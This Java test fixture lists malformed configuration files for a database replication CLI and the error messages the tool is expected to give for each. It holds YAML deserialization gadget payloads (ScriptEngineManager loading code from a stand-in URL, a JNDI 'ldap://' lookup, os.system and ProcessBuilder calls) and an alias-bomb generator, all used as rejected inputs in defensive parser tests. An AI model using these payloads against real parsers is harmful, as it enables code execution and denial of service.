package io.chameleon.runner.cli;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.List;
import java.util.stream.Stream;

/** Configuration files that nobody can work with. */
final class BadConfigurations {
    private static final String GOOD = """
            pg_conn:
              host: localhost
              port: 1
              user: usr_replica
              password: hunter2
              database: db_replica
            sources:
              merged:
                db_conn: {host: mysql, port: 3306, user: usr_replica, password: hunter2}
                schema_mappings: {app1: dest1, app2: dest2}
                gtid_enable: false
                type: mysql
            """;
    private static final String CORRECT_FILE = "pg_chameleon's example configuration";

    private BadConfigurations() {}

    static Stream<BadInput> cases() {
        return Stream.of(files(), syntax(), tags(), types(), sources()).flatMap(cases -> cases);
    }

    private static Stream<BadInput> files() {
        return Stream.of(
                named("no such name", "check --config absent", "'absent' doesn't exist", "are: bad"),
                named("no such path", "check --config /nowhere/absent.yml", "/nowhere/absent.yml", "a name or a path"),
                named("a directory", "check --config .", "'.' doesn't exist", "a name or a path"),
                named("a directory by its path", "check --config ./", "is a directory", "Name the file itself"),
                named("a device without an end", "check --config /dev/zero", "more than 3 MiB", "configuration file"),
                named("a null device", "check --config /dev/null", "the file is empty", CORRECT_FILE),
                file("nothing", "", "the file is empty", CORRECT_FILE),
                file("comments alone", "# pg_conn:\n", "the file is empty", CORRECT_FILE),
                bytes("Latin-1", ("# é\n" + GOOD).getBytes(ISO_8859_1), "line 1: the byte 0xE9", "UTF-8"),
                bytes("UTF-16", GOOD.getBytes(UTF_16), "line 1: the byte 0xFE", "UTF-8"),
                bytes("an archive", new byte[] {0x1F, (byte) 0x8B, 8, 0, 0, 0}, "isn't UTF-8", "UTF-8"),
                file(
                        "a NUL",
                        GOOD.replace("localhost", "local\0host"),
                        "line 2: not YAML: found the control",
                        "example"),
                file("more than 3 MiB", GOOD + "#".repeat(3 << 20), "more than 3 MiB", "configuration file"));
    }

    private static Stream<BadInput> syntax() {
        return Stream.of(
                file("a program", "#!/bin/sh\nexit 0 # hunter2\n", "expected a mapping", "Correct it"),
                file(
                        "JSON that is cut off",
                        "{\"pg_conn\": {\"password\": \"hunter2\"",
                        "line 1: not YAML",
                        CORRECT_FILE),
                file("a page of the web", "<html><body>hunter2</body></html>", "expected a mapping", "Correct it"),
                file("settings of another kind", "host=localhost\npassword=hunter2\n", "expected a mapping", "Correct"),
                file(
                        "tabs",
                        GOOD.replace("  host: local", "\thost: local"),
                        "line 2: not YAML: found character '\\t",
                        "TAB"),
                file(
                        "a tab after a line end of Windows",
                        GOOD.replace("\n  host: local", "\r\n\thost: local"),
                        "line 2",
                        ""),
                file(
                        "a byte order mark and no colon",
                        "\uFEFF" + GOOD.replace("sources:", "sources"),
                        "not YAML",
                        "example"),
                file(
                        "a byte order mark within",
                        GOOD.replace("sources:", "\uFEFFsources:"),
                        "sources is missing",
                        "Add"),
                file("two documents", GOOD + "---\n" + GOOD, "found another document", CORRECT_FILE),
                file("an open quote", GOOD.replace("hunter2\n", "\"hunter2\n"), "not YAML", CORRECT_FILE),
                file("a colon too many", GOOD.replace("localhost", "local: host"), "line 2: not YAML", CORRECT_FILE),
                file("a level too deep", GOOD.replace("  user:", "     user:"), "line 4: not YAML", CORRECT_FILE),
                file("an unknown alias", GOOD.replace("hunter2\n", "*hunter2\n"), "undefined alias", CORRECT_FILE),
                file("a bomb of aliases", bomb("[%s]"), "aliases", CORRECT_FILE),
                file("a bomb of merged mappings", bomb("{<<: [%s]}"), "aliases", CORRECT_FILE),
                file(
                        "a mapping within itself",
                        "sources: &s {merged: *s}",
                        "line 1: a value contains itself",
                        CORRECT_FILE),
                file(
                        "a mapping merged with itself",
                        "sources: &s {<<: *s}",
                        "line 1: a value contains itself",
                        CORRECT_FILE),
                file("a hundred thousand levels", "[".repeat(100_000), "Nesting Depth exceeded", CORRECT_FILE),
                file(
                        "a thousand mappings",
                        "{a: ".repeat(1000) + "}".repeat(1000),
                        "Nesting Depth exceeded",
                        CORRECT_FILE));
    }

    private static Stream<BadInput> tags() {
        return Stream.of(
                        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                        "!!java.io.File [/tmp/hunter2]",
                        "!!python/object/apply:os.system ['touch /tmp/hunter2']",
                        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x/hunter2', autoCommit: true}",
                        "!<tag:yaml.org,2002:java.lang.ProcessBuilder> [[touch, /tmp/hunter2]]")
                .map(tag ->
                        file("the object " + tag, GOOD + "extra: " + tag, "Global tag is not allowed", CORRECT_FILE));
    }

    private static Stream<BadInput> types() {
        return Stream.of(
                changed("pg_conn", "pg_conn:\n", "pg_conn: hunter2\nold:\n", "pg_conn, line 1: expected a mapping"),
                changed("host", "host: localhost", "host: [localhost]", "pg_conn.host, line 2: expected a text"),
                changed("port", "port: 1\n", "port: hunter2\n", "pg_conn.port, line 3: expected a port"),
                changed("a huge port", "port: 1\n", "port: 99999999999\n", "pg_conn.port, line 3: expected a port"),
                changed("user", "user: usr_replica\n", "user: {a: b}\n", "pg_conn.user, line 4: expected a text"),
                changed("password", "password: hunter2\n", "password: 0x1F\n", "pg_conn.password, line 5: expected a"),
                changed(
                        "a list of passwords",
                        "password: hunter2\n",
                        "password: [hunter2]\n",
                        "line 5: expected a text"),
                changed(
                        "database",
                        "database: db_replica",
                        "database: 2026-11-25",
                        "line 6: expected a text, found a date"),
                changed("sources", "sources:\n", "sources: 3\nold:\n", "sources, line 7: expected a mapping"),
                changed(
                        "a source",
                        "  merged:\n",
                        "  merged: x\n  old:\n",
                        "sources.merged, line 8: expected a mapping"),
                changed("the name of a source", "  merged:\n", "  42:\n", "line 8: expected a source name as key"),
                changed(
                        "db_conn",
                        "db_conn: {host: mysql,",
                        "db_conn: hunter2\n    old: {",
                        "line 9: expected a mapping"),
                changed("db_conn.host", "host: mysql", "host: [mysql]", "sources.merged.db_conn.host, line 9"),
                changed("db_conn.port", "port: 3306", "port: -1", "sources.merged.db_conn.port, line 9"),
                changed("schema_mappings", "{app1: dest1, app2: dest2}", "[app1, app2]", "schema_mappings, line 10"),
                changed(
                        "a destination",
                        "app2: dest2",
                        "app2: {a: b}",
                        "schema_mappings.app2, line 10: expected the name"),
                changed("gtid_enable", "gtid_enable: false", "gtid_enable: never", "line 11: expected true or false"),
                changed(
                        "limit_tables",
                        "gtid_enable: false",
                        "limit_tables: app1.t1",
                        "sources.merged.limit_tables, line 11: expected a list of tables, found a text"),
                changed(
                        "skip_tables",
                        "gtid_enable: false",
                        "skip_tables: {app1: t1}",
                        "sources.merged.skip_tables, line 11: expected a list of tables, found a mapping"),
                changed(
                        "a table",
                        "gtid_enable: false",
                        "skip_tables: [app1.t1, 1.5]",
                        "sources.merged.skip_tables[1], line 11: expected a table as schema.table, found a number"),
                changed("type", "type: mysql", "type: 5", "sources.merged.type, line 12: expected mysql or pgsql"));
    }

    private static Stream<BadInput> sources() {
        return Stream.of(
                file("a configuration of 1.8", "my_database: app1\npg_conn: {host: x}\n", "sources is missing", "Add"),
                changed("no source", GOOD.substring(GOOD.indexOf("sources")), "sources: {}", "no source is configured"),
                changed("no mapping", "{app1: dest1, app2: dest2}", "{}", "no schema is mapped"),
                changed("a mapping of nothing", "{app1: dest1, app2: dest2}", "null", "schema_mappings, line 10"),
                changed("a destination of nothing", "app2: dest2", "app2: ", "schema_mappings.app2, line 10"),
                changed("no type", "    type: mysql\n", "", "the key type is missing"),
                changed("an unknown type", "type: mysql", "type: oracle", "'oracle' doesn't exist"),
                changed("a type with a line end", "type: mysql", "type: \"my\\nsql\"", "doesn't exist"),
                changed("a key twice", "port: 1\n", "port: 1\n  port: 2\n", "already there in line 3"),
                changed("a source twice", "sources:\n", "sources:\n  merged: {}\n", "already there in line 8"),
                changed("a destination twice", "app2: dest2", "app2: dest1", "'dest1' is already the destination"),
                changed("a host with a path", "host: localhost", "host: local/host", "neither a name nor an address"),
                changed("several hosts", "host: localhost", "host: 'a,b'", "names several hosts"),
                changed("a socket", "host: localhost", "host: /var/run/postgresql", "directory of Unix sockets"));
    }

    /** Thirty levels, each of nine times the one before. */
    private static String bomb(String level) {
        var text = new StringBuilder("a0: &a0 {x: y}\n");
        for (int i = 1; i < 30; i++) {
            String before = ("*a" + (i - 1) + ",").repeat(9);
            text.append("a" + i + ": &a" + i + " " + level.formatted(before) + "\n");
        }
        return text.append(GOOD).toString();
    }

    private static BadInput changed(String name, String good, String bad, String problem) {
        if (!GOOD.contains(good)) {
            throw new IllegalArgumentException(good);
        }
        return file("wrong: " + name, GOOD.replace(good, bad), problem, "");
    }

    private static BadInput named(String name, String arguments, String problem, String remedy) {
        return file(name, GOOD, problem, remedy).with(arguments);
    }

    private static BadInput file(String name, String text, String problem, String remedy) {
        return bytes(name, text.getBytes(UTF_8), problem, remedy);
    }

    private static BadInput bytes(String name, byte[] bytes, String problem, String remedy) {
        return new BadInput(name, "", bytes, List.of(), 2, problem, remedy).with("upgrade --yes --config bad");
    }
}
